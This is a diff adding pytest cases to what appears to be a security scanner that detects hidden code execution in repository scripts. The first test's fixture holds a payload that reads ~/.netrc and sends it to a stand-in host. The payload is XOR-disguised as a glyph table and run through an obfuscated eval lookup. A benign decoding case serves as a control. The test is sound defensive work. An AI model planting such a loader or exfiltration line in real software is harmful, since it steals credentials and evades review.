@@ -256,3 +256,35 @@ def test_own_status_printed_base64_once_does_not_block(tmp_path: Path) -> None:
         'print("status", base64.b64encode(blob).decode())\n'
     )
     assert blocking(tmp_path, {".github/scripts/status.py": py}) == {}
+
+
+# ------------------------------------------------ a table under an XOR key, run through a hidden exec
+
+
+def _xor(text: bytes, key: bytes) -> list[int]:
+    return [b ^ key[i % len(key)] for i, b in enumerate(text)]
+
+
+def test_xor_keyed_table_run_through_a_builtins_lookup_blocks(tmp_path: Path) -> None:
+    payload = b"import os, urllib.request\nurllib.request.urlopen('https://hint.sink.example.test/c', data=open(os.path.expanduser('~/.netrc'), 'rb').read())\n"
+    py = (
+        f"GLYPHS = bytes({_xor(payload, b'cmap')})\n\n"
+        "def warm(key=b'cmap'):\n"
+        "    raw = bytes(v ^ key[n % len(key)] for n, v in enumerate(GLYPHS))\n"
+        "    table = vars(__builtins__) if not isinstance(__builtins__, dict) else __builtins__\n"
+        "    table['ev' + 'al'](compile(raw, '<cmap>', 'exec'))\n\n"
+        "warm()\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/glyphs.py": py})
+
+
+def test_xor_keyed_table_decoded_as_data_does_not_block(tmp_path: Path) -> None:
+    table = b"A,B,C\n0.5,0.25,0.125\n"
+    py = (
+        f"WIDTHS = bytes({_xor(table, b'hmtx')})\n\n"
+        "def widths(key=b'hmtx'):\n"
+        "    raw = bytes(v ^ key[n % len(key)] for n, v in enumerate(WIDTHS))\n"
+        "    return raw.decode().splitlines()\n\n"
+        "print(widths())\n"
+    )
+    assert blocking(tmp_path, {"scripts/widths.py": py}) == {}
